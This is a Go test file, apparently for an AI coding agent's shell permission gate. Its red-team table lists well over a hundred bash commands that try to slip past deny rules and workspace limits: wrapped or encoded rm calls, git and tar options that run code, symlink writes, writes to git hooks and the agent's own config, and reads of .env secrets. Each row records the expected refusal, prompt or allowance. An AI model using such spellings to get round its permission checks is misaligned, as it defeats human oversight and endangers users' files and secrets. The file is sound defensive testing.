package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"covey/permission"
	"covey/tools/toolname"
	"covey/tools/workspace"
)

// redAttack is one row of the red team's table: spellings the gate's own
// attack table (attack_test.go) does not hold, tried as a model writing
// odd shell would. scope, when set, is an agent definition's allow list
// (Bash(git diff:*)): the call goes through a scoped policy.
type redAttack struct {
	class        string
	mode         permission.Mode
	allow, deny  []string
	scope        []string
	allowedPaths []string
	files        map[string]string
	links        map[string]string // symlinks made first (name → target; {{OUT}} as in command)
	command      string            // {{OUT}} is a folder outside the workspace
	want         string            // "refuse", "ask" or "allow"
	creates      string            // for "allow": a workspace file it must make
}

var (
	rtAllow = []string{"bash(git status:*)", "bash(echo:*)", "bash(go test:*)", "bash(ls:*)", "bash(cat:*)", "bash(grep:*)",
		"bash(wc:*)", "bash(make)", "bash(npm test)", "bash(git diff:*)", "bash(printf:*)", "bash(tee:*)", "bash(cp:*)",
		"bash(dd:*)", "bash(sort:*)", "bash(find:*)", "bash(true)"}
	plan     = permission.ModePlan
	denyEnv  = []string{"bash(rm:*)", "read_file(.env)", "Read(secrets/**)"}
	envFiles = map[string]string{".env": "TOKEN=hunter2\n", ".env.example": "TOKEN=\n", "secrets/key": "hunter2\n"}
)

// redAttacks is the red team's table: every class of issue 15 with new
// spellings, in every mode.
var redAttacks = []redAttack{
	// env, with clusters of short options and -S.
	{class: "env", mode: bypass, deny: denyRm, command: "/usr/bin/env -S 'rm -f victim'", want: "refuse"},
	{class: "env", mode: bypass, deny: denyRm, command: "env -iS 'rm victim'", want: "refuse"},
	{class: "env", mode: bypass, deny: denyRm, command: "env -vS'rm victim'", want: "refuse"},
	{class: "env", mode: bypass, deny: denyRm, command: "env -iu HOME rm victim", want: "refuse"},
	{class: "env", mode: bypass, deny: denyRm, command: "env -C . rm victim", want: "refuse"},
	{class: "env", mode: bypass, deny: denyRm, command: "env --chdir=. -- rm victim", want: "refuse"},
	{class: "env", mode: dflt, allow: rtAllow, command: "env -iS 'echo hi'", want: "allow"},
	{class: "env", mode: dflt, allow: rtAllow, command: "env -iS 'touch pwned'", want: "ask"},
	// command, builtin, exec and other wrappers.
	{class: "wrapper", mode: bypass, deny: denyRm, command: "command -p rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "command -- rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: `\command \rm victim`, want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "builtin command rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "exec -- rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "command exec rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "time -p -- rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "nice -- rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "timeout --signal=KILL 5s rm victim", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "nohup sh -c 'rm victim' &", want: "refuse"},
	{class: "wrapper", mode: bypass, deny: denyRm, command: "busybox rm victim", want: "refuse"},
	// Quoting.
	{class: "quoting", mode: bypass, deny: denyRm, command: `\rm victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `r''m victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `"r"m victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `$'\162m' victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `'/usr/bin/rm' victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `/usr//bin///rm victim`, want: "refuse"},
	{class: "quoting", mode: bypass, deny: denyRm, command: `/./bin/./rm victim`, want: "refuse"},
	// Computed names.
	{class: "computed name", mode: bypass, deny: denyRm, command: "${x:-rm} victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "$(echo rm) victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "`echo rm` victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: `"$(printf rm)" victim`, want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: `x=(rm victim); "${x[@]}"`, want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: `set -- rm victim; "$@"`, want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "printf -v x rm; $x victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "read -r c <<< rm; $c victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: `mapfile -t a <<< rm; "${a[0]}" victim`, want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "IFS=,; x=rm,victim; $x", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "rm${IFS}victim", want: "refuse"},
	{class: "computed name", mode: bypass, deny: denyRm, command: "declare -n r=x; x=rm; $r victim", want: "refuse"},
	// Globs naming a command, and tilde paths.
	{class: "glob", mode: bypass, deny: denyRm, command: "/bin/r[m] victim", want: "refuse"},
	{class: "glob", mode: bypass, deny: denyRm, command: "/usr/bin/r? victim", want: "refuse"},
	{class: "glob", mode: bypass, deny: denyRm, command: "/bin/rm* victim", want: "refuse"},
	{class: "glob", mode: bypass, deny: denyRm, command: "~/../../bin/rm victim", want: "refuse"},
	// xargs and find.
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo victim | xargs -I{} rm {}", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo victim | xargs -0 rm", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo victim | xargs --null -- rm", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'rm victim' | xargs -0 sh -c", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'rm victim' | xargs -I{} sh -c '{}'", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'rm victim' | xargs -I% bash -c %", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo rm | xargs -I{} {} victim", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo rm victim | xargs -n2 env", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'rm victim' | xargs -0 env -S", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo rm | xargs --replace=@ env @ victim", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'import os; os.remove(\"victim\")' | xargs -0 python3 -c", want: "refuse"},
	{class: "xargs", mode: bypass, deny: denyRm, command: "echo 'BEGIN{system(\"rm victim\")}' | xargs -0 awk", want: "refuse"},
	{class: "find", mode: bypass, deny: denyRm, files: map[string]string{"rm victim": ""}, command: `find . -name 'rm *' -exec sh -c {} \;`, want: "refuse"},
	{class: "find", mode: bypass, deny: denyRm, command: `find /bin/rm -exec {} victim \;`, want: "refuse"},
	{class: "find", mode: dflt, allow: []string{"bash(find:*)", "bash(gofmt:*)"}, files: map[string]string{"a.go": "package a\n"}, command: `find . -name '*.go' -exec sh -c 'gofmt -l "$1"' _ {} \;`, want: "allow"},
	{class: "find", mode: bypass, deny: denyRm, command: `find . -name victim -exec sh -c 'rm "$1"' _ {} \;`, want: "refuse"},
	{class: "find", mode: bypass, deny: denyRm, command: `find . -name victim -exec bash -c 'rm "$0"' {} \;`, want: "refuse"},
	{class: "find", mode: bypass, deny: denyRm, command: `find . -name victim -exec rm -- {} +`, want: "refuse"},
	{class: "find", mode: dflt, allow: rtAllow, command: `find . -name victim -delete`, want: "allow"}, // find:* covers -delete
	{class: "find", mode: dflt, allow: rtAllow, command: `find . -fprint {{OUT}}/pwned`, want: "ask"},
	{class: "find", mode: dflt, allow: rtAllow, command: `find . -fprintf ../pwned-by-redirect '%p'`, want: "ask"},
	// Inline code in other languages naming the program.
	{class: "inline code", mode: bypass, deny: denyRm, command: `python3 -c "import os; os.system('rm victim')"`, want: "refuse"},
	{class: "inline code", mode: bypass, deny: denyRm, command: `perl -e 'system("rm victim")'`, want: "refuse"},
	{class: "inline code", mode: bypass, deny: denyRm, command: `sed -n '1e rm victim' victim`, want: "refuse"},
	{class: "inline code", mode: bypass, deny: denyRm, command: `echo a | sed 's/a/rm victim/e'`, want: "refuse"},
	{class: "inline code", mode: bypass, deny: denyRm, command: `echo a | sed --expression='1e rm victim'`, want: "refuse"},
	// Programs whose options run a command.
	{class: "option runs", mode: bypass, deny: denyRm, command: "git -c core.fsmonitor='rm victim' status", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git -c alias.st='!rm victim' st", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git config alias.st '!rm victim'; git st", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git --config-env=core.pager=P log", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "go test -exec rm ./...", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "go test -toolexec='rm victim' ./...", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "go vet -vettool=/bin/rm ./...", want: "refuse"},
	{class: "option runs", mode: dflt, allow: rtAllow, command: "go test -exec 'sh -c \"touch pwned\"' ./...", want: "ask"},
	{class: "option runs", mode: dflt, allow: rtAllow, command: "go test --toolexec=./x ./...", want: "ask"},
	{class: "option runs", mode: dflt, allow: rtAllow, command: "git status --short -c core.fsmonitor=x", want: "allow"}, // options after the subcommand are its own
	{class: "option runs", mode: bypass, deny: denyRm, command: "BASH_CMDS[1]=/bin/rm; 1 victim", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "BASH_CMDS+=([0]=/bin/rm); 0 victim", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "set -o history; history -s true; fc -e 'rm victim' -1", want: "refuse"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "go test -coverprofile={{OUT}}/pwned ./...", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "go test -c -o ../pwned-by-redirect ./...", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "go test -coverprofile .git/hooks/pre-commit ./...", want: "ask"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "go test -coverprofile=cover.out ./...", want: "allow"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm victim' victim", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "tar -cf /dev/null -I 'rm victim' victim", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "rsync -e 'rm victim' a b:c", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "zip z.zip victim -T -TT 'rm victim'", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "vim -es -c '!rm victim' -c q", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "vi -es '+!rm victim' +q", want: "refuse"},
	{class: "plain", mode: bypass, deny: denyRm, command: "tar -cf a.tar victim && tar -tf a.tar", want: "allow", creates: "a.tar"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git rebase --exec 'rm victim' HEAD~1", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git bisect run rm victim", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git submodule foreach 'rm victim'", want: "refuse"},
	{class: "option runs", mode: bypass, deny: denyRm, command: "git difftool -y -x 'rm victim'", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "echo 'rm victim' | sudo -s", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "sudo -i <<< 'rm victim'", want: "refuse"},
	// Aliases and functions in one line.
	{class: "alias", mode: bypass, deny: denyRm, command: "alias x=rm; x victim", want: "refuse"},
	{class: "alias", mode: bypass, deny: denyRm, command: "shopt -s expand_aliases\nalias ls='rm victim'\nls", want: "refuse"},
	{class: "function", mode: bypass, deny: denyRm, command: `function rm2 { rm "$@"; }; rm2 victim`, want: "refuse"},
	{class: "function", mode: dflt, allow: rtAllow, command: "git() { touch pwned; }; git status", want: "ask"},
	// Scripts the line writes (or file descriptors it opens), then runs.
	{class: "written script", mode: bypass, deny: denyRm, command: "exec 3>s.sh; echo 'rm victim' >&3; bash s.sh", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "echo 'rm victim' > s.sh; source s.sh", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "echo 'rm victim' | tee s.sh; . s.sh", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "echo 'rm victim' > s; dd if=s of=t.sh; sh t.sh", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "printf 'all:\\n\\trm victim\\n' > Makefile && make", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: `echo '{"scripts":{"test":"rm victim"}}' > package.json && npm test`, want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "cp /bin/rm ls; PATH=.:$PATH ls victim", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "export PATH=.:$PATH; cp /bin/rm cat; cat victim", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, files: map[string]string{"s.sh": shScript}, command: "BASH_ENV=s.sh bash -c true", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, files: map[string]string{"s.sh": shScript}, command: "export BASH_ENV=s.sh; bash -c true", want: "refuse"},
	{class: "written script", mode: bypass, deny: denyRm, command: "ln -s /bin/rm r; ./r victim", want: "refuse"},
	// Heredocs, here-strings, process substitution into a shell.
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "bash <<'EOF'\nrm victim\nEOF", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "bash <(echo rm victim)", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "source <(echo rm victim)", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: ". /dev/stdin <<< 'rm victim'", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "echo cm0gdmljdGltCg== | base64 -d | bash", want: "refuse"},
	{class: "stdin interpreter", mode: bypass, deny: denyRm, command: "sh < /dev/stdin <<< 'rm victim'", want: "refuse"},
	// Grammar corners.
	{class: "grammar", mode: bypass, deny: denyRm, command: "coproc x { rm victim; }", want: "refuse"},
	{class: "grammar", mode: bypass, deny: denyRm, command: "select x in a; do rm victim; break; done <<< 1", want: "refuse"},
	{class: "grammar", mode: bypass, deny: denyRm, command: "[[ $(rm victim) ]]", want: "refuse"},
	{class: "grammar", mode: bypass, deny: denyRm, command: ": ${x:=$(rm victim)}", want: "refuse"},
	{class: "grammar", mode: bypass, deny: denyRm, command: "trap -- 'rm victim' EXIT", want: "refuse"},
	{class: "grammar", mode: bypass, deny: denyRm, command: "trap 'rm victim' ERR; false", want: "refuse"},
	// Arithmetic and subscripts that run code.
	{class: "expansion", mode: bypass, deny: denyRm, command: "echo $((x[$(rm victim)]))", want: "refuse"},
	{class: "expansion", mode: dflt, allow: rtAllow, command: `printf -v 'a[$(touch pwned)]' y`, want: "ask"},
	{class: "expansion", mode: dflt, allow: rtAllow, command: `a=(); printf -va'[$(touch pwned)]' y`, want: "ask"},
	{class: "expansion", mode: dflt, allow: append([]string{"bash(read:*)"}, rtAllow...), command: `read -r 'a[$(touch pwned)]' <<< x`, want: "ask"},
	{class: "expansion", mode: dflt, allow: append([]string{"bash(unset:*)"}, rtAllow...), command: `unset 'a[$(touch pwned)]'`, want: "ask"},
	{class: "expansion", mode: dflt, allow: append([]string{"bash(test:*)"}, rtAllow...), command: `test -v 'a[$(touch pwned)]'`, want: "ask"},
	{class: "expansion", mode: dflt, allow: rtAllow, command: `printf -v 'a[1]' y`, want: "allow"},
	{class: "expansion", mode: dflt, allow: rtAllow, command: "echo ${x/a/$(touch pwned)}", want: "ask"},
	// Files written by a program's own arguments.
	{class: "arg write", mode: dflt, allow: rtAllow, command: "echo x | tee {{OUT}}/pwned", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp victim ../pwned-by-redirect", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "dd if=victim of={{OUT}}/pwned", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "sort -o {{OUT}}/pwned victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "sort --output=../pwned-by-redirect victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "git diff --output={{OUT}}/pwned", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp victim .git/hooks/pre-commit", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "tee .covey/config.yaml <<< 'permissions: {allow: [bash]}'", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "dd of=.claude/agents/x.md <<< x", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp -t {{OUT}} victim", want: "ask"},
	{class: "arg write", mode: accept, allow: rtAllow, command: "tee {{OUT}}/pwned <<< x", want: "ask"},
	{class: "arg write", mode: accept, allow: rtAllow, command: "cp victim {{OUT}}/pwned", want: "ask"},
	{class: "arg write", mode: bypass, deny: []string{"edit_file(.env)"}, command: "cp victim .env", want: "refuse"},
	{class: "arg write", mode: bypass, deny: []string{"write_file(config/**)"}, command: "mkdir -p config; tee config/app.yaml <<< x", want: "refuse"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp --target-directory={{OUT}} victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp --target-directory {{OUT}} victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp -t{{OUT}} victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp -rt {{OUT}} victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp -t .git/hooks victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: append([]string{"bash(curl:*)", "bash(wget:*)"}, rtAllow...), command: "curl -s --output-dir {{OUT}} -O file://$PWD/victim", want: "ask"},
	{class: "arg write", mode: dflt, allow: append([]string{"bash(curl:*)", "bash(wget:*)"}, rtAllow...), command: "curl -s -o{{OUT}}/pwned file:///etc/hostname", want: "ask"},
	{class: "arg write", mode: dflt, allow: append([]string{"bash(curl:*)", "bash(wget:*)"}, rtAllow...), command: "wget -q -P{{OUT}} http://127.0.0.1:9/x", want: "ask"},
	{class: "arg write", mode: dflt, allow: append([]string{"bash(curl:*)", "bash(wget:*)"}, rtAllow...), command: "wget -q --output-document=.covey/config.yaml http://127.0.0.1:9/x", want: "ask"},
	{class: "arg write", mode: dflt, allow: rtAllow, files: map[string]string{"d/.keep": ""}, command: "cp -t d victim", want: "allow", creates: "d/victim"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "cp victim copy.txt", want: "allow", creates: "copy.txt"},
	{class: "arg write", mode: dflt, allow: rtAllow, command: "echo hi | tee notes.txt", want: "allow", creates: "notes.txt"},
	// Redirections: tilde prefixes and file descriptors.
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x > ~root/pwned", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x > ~+/../pwned-by-redirect", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x > ~-/pwned", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "exec 3>{{OUT}}/pwned; echo x >&3", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x 3>{{OUT}}/pwned", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x &>>{{OUT}}/pwned", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x >| ../pwned-by-redirect", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x > sub/../../pwned-by-redirect", want: "ask"},
	{class: "redirect", mode: dflt, allow: rtAllow, command: "echo x >> ./.git/config", want: "ask"},
	// Writes through symlinks in the workspace.
	{class: "symlink write", mode: dflt, allow: rtAllow, links: map[string]string{"g": ".git"}, command: "echo x >> g/hooks/pre-commit", want: "ask"},
	{class: "symlink write", mode: dflt, allow: rtAllow, links: map[string]string{"g": ".git"}, command: "cp victim g/hooks/pre-commit", want: "ask"},
	{class: "symlink write", mode: dflt, allow: rtAllow, links: map[string]string{"o": "{{OUT}}"}, command: "echo x > o/pwned", want: "ask"},
	{class: "symlink write", mode: dflt, allow: rtAllow, links: map[string]string{"p": "{{OUT}}/pwned"}, command: "echo x | tee p", want: "ask"},
	{class: "symlink write", mode: accept, allow: rtAllow, links: map[string]string{"p": "{{OUT}}/pwned"}, command: "echo x > p", want: "ask"},
	{class: "symlink write", mode: bypass, deny: []string{"write_file(.env)"}, links: map[string]string{"e": ".env"}, command: "echo SECRET=1 > e", want: "refuse"},
	{class: "symlink write", mode: bypass, allowedPaths: []string{"docs/**"}, links: map[string]string{"docs/l": "../src"}, command: "mkdir -p src; echo x > docs/l/pwned.go", want: "refuse"},
	// Bash commands naming a file a read deny rule covers.
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "cat .env", want: "refuse"},
	{class: "bash read", mode: dflt, allow: rtAllow, deny: denyEnv, files: envFiles, command: "cat < ./.env", want: "refuse"},
	{class: "bash read", mode: accept, allow: rtAllow, deny: denyEnv, files: envFiles, command: "grep TOKEN sub/../.env", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "cat .en?", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "base64 secrets/key", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "cp secrets/* leak/", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "git diff --no-index .env /dev/null", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "diff --from-file=.env victim", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, links: map[string]string{"el": ".env"}, command: "head -1 el", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "echo $(<.env)", want: "refuse"},
	{class: "bash read", mode: bypass, deny: denyEnv, files: envFiles, command: "while read l; do echo $l; done < ./secrets/key", want: "refuse"},
	{class: "bash read", mode: dflt, allow: rtAllow, deny: denyEnv, files: envFiles, command: "echo .env >> .gitignore", want: "allow", creates: ".gitignore"},
	{class: "bash read", mode: dflt, allow: rtAllow, deny: denyEnv, files: envFiles, command: "cat .env.example", want: "allow"},
	{class: "bash read", mode: dflt, allow: rtAllow, deny: denyEnv, files: envFiles, command: "ls -la secrets", want: "allow"},
	// allowed_paths and agent scopes.
	{class: "allowed_paths", mode: bypass, allowedPaths: []string{"docs/**"}, command: "echo x | tee src/pwned.go", want: "refuse"},
	{class: "allowed_paths", mode: bypass, allowedPaths: []string{"docs/**"}, command: "mkdir -p src; cp victim src/pwned.go", want: "refuse"},
	{class: "allowed_paths", mode: bypass, allowedPaths: []string{"docs/**"}, command: "echo x > ~root/x", want: "refuse"},
	{class: "allowed_paths", mode: bypass, allowedPaths: []string{"docs/**"}, command: "mkdir -p docs; cp victim docs/copy.md", want: "allow", creates: "docs/copy.md"},
	{class: "scope", mode: bypass, scope: []string{"Bash(git diff:*)"}, command: "git diff; rm victim", want: "ask"},
	{class: "scope", mode: bypass, scope: []string{"Bash(git diff:*)"}, command: "git -c core.pager='touch pwned' diff", want: "ask"},
	{class: "scope", mode: bypass, scope: []string{"Bash(git diff:*)"}, command: "GIT_EXTERNAL_DIFF=./x git diff", want: "ask"},
	{class: "scope", mode: bypass, scope: []string{"Bash(git diff:*)"}, command: "git diff $(touch pwned)", want: "ask"},
	{class: "scope", mode: accept, allow: []string{"bash(git diff:*)"}, scope: []string{"Bash(git diff:*)"}, command: "git diff HEAD~1 -- a.go", want: "allow"},
	{class: "scope", mode: accept, allow: []string{"bash(git diff:*)", "bash(git status:*)"}, scope: []string{"Bash(git diff:*)"}, command: "git status", want: "ask"},
	{class: "scope", mode: dflt, allow: []string{"bash(git diff:*)"}, scope: []string{"Bash(git diff:*)", "Edit(docs/**)"}, command: "git diff --output=src/pwned.go", want: "ask"},
	// Plan mode runs nothing, whatever the rules.
	{class: "plan", mode: plan, allow: rtAllow, command: "git status", want: "refuse"},
	{class: "plan", mode: plan, allow: []string{toolname.Bash}, command: "echo x > pwned", want: "refuse"},
	{class: "plan", mode: plan, allow: rtAllow, command: "cat victim", want: "refuse"},
	// Plain commands do not start asking.
	{class: "plain", mode: dflt, allow: rtAllow, command: "ls -la", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "cat victim | grep p | wc -l", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "git status", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "git diff HEAD~1 -- a.go", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "go test ./...", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "make", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "npm test", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "sort victim | tee sorted.txt", want: "allow", creates: "sorted.txt"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "git status --porcelain 2>/dev/null | wc -l", want: "allow"},
	{class: "plain", mode: dflt, allow: rtAllow, command: "printf '%s\\n' a b | sort", want: "allow"},
	{class: "plain", mode: bypass, deny: denyRm, command: "git diff --stat; go vet ./... 2>&1 | tail -1; echo done > done.txt", want: "allow", creates: "done.txt"},
}

// TestRedteamAttacks runs every row through the bash tool with a real
// Policy (scoped when the row has a scope) and checks the verdict and the
// disk, as TestAttackTable does.
func TestRedteamAttacks(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Logf("%d red team cases", len(redAttacks))
	for i, at := range redAttacks {
		t.Run(at.class+"/"+strings.ReplaceAll(at.command, "/", "∕"), func(t *testing.T) {
			root, out := t.TempDir(), t.TempDir()
			for name, body := range map[string]string{"victim": "precious\n", ".git/hooks/.keep": ""} {
				writeRedFile(t, root, name, body)
			}
			for name, body := range at.files {
				writeRedFile(t, root, name, body)
			}
			for name, target := range at.links {
				if err := os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(strings.ReplaceAll(target, "{{OUT}}", out), filepath.Join(root, name)); err != nil {
					t.Fatal(err)
				}
			}
			rules, err := permission.ParseRules(at.allow, at.deny)
			if err != nil {
				t.Fatalf("case %d: %v", i, err)
			}
			asker := &decliningAsker{}
			session := permission.NewPolicy(at.mode, rules, asker)
			session.SetWorkspace(root)
			p := session
			if at.scope != nil {
				if p, err = session.Scoped(at.scope, nil); err != nil {
					t.Fatal(err)
				}
			}
			ws, err := workspace.NewWorkspace(root)
			if err != nil {
				t.Fatal(err)
			}
			env := &Env{WS: ws, Gate: p, AllowedPaths: at.allowedPaths, AllowRead: p.AllowRead}
			command := strings.ReplaceAll(at.command, "{{OUT}}", out)
			args, _ := json.Marshal(map[string]any{"command": command, "timeout_s": 30})
			res := NewBash(env).Run(context.Background(), args)
			asked := asker.asked.Load()
			refused := res.IsError && strings.Contains(res.Content, "not run") || strings.Contains(res.Content, "was not allowed")
			describe := func() string {
				return string(at.mode) + ", allow " + strings.Join(at.allow, " ") + ", deny " + strings.Join(at.deny, " ") + ", scope " + strings.Join(at.scope, " ")
			}
			switch at.want {
			case "refuse":
				if !refused || asked != 0 {
					t.Errorf("%q (%s): asked %d, result %q; want refused without asking", command, describe(), asked, res.Content)
				}
			case "ask":
				if asked != 1 || !refused {
					t.Errorf("%q (%s): asked %d, result %q; want one question", command, describe(), asked, res.Content)
				}
			case "allow":
				if refused || asked != 0 {
					t.Errorf("%q (%s): asked %d, result %q; want it run without asking", command, describe(), asked, res.Content)
				}
			}
			if at.want != "allow" {
				if b, err := os.ReadFile(filepath.Join(root, "victim")); err != nil || string(b) != "precious\n" {
					t.Errorf("%q: the victim file was changed (%q, %v)", command, b, err)
				}
				for _, p := range []string{filepath.Join(root, "pwned"), filepath.Join(out, "pwned"), filepath.Join(filepath.Dir(root), "pwned-by-redirect"),
					filepath.Join(root, "src", "pwned.go"), filepath.Join(root, ".git", "hooks", "pre-commit"), filepath.Join(root, ".covey", "config.yaml")} {
					if _, err := os.Stat(p); err == nil {
						t.Errorf("%q wrote %s", command, p)
					}
				}
			}
			if at.creates != "" {
				if _, err := os.Stat(filepath.Join(root, at.creates)); err != nil {
					t.Errorf("%q should have made %s: %v (%s)", command, at.creates, err, res.Content)
				}
			}
			if at.want == "ask" {
				headless := permission.NewPolicy(at.mode, rules, nil)
				headless.SetWorkspace(root)
				hp := headless
				if at.scope != nil {
					hp, _ = headless.Scoped(at.scope, nil)
				}
				if v := hp.Check(context.Background(), permission.Request{Tool: toolname.Bash, Command: command, Dir: root}); v.Allowed {
					t.Errorf("%q: a headless policy allowed what needs asking", command)
				}
			}
		})
	}
}

func writeRedFile(t *testing.T, root, name, body string) {
	t.Helper()
	p := filepath.Join(root, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
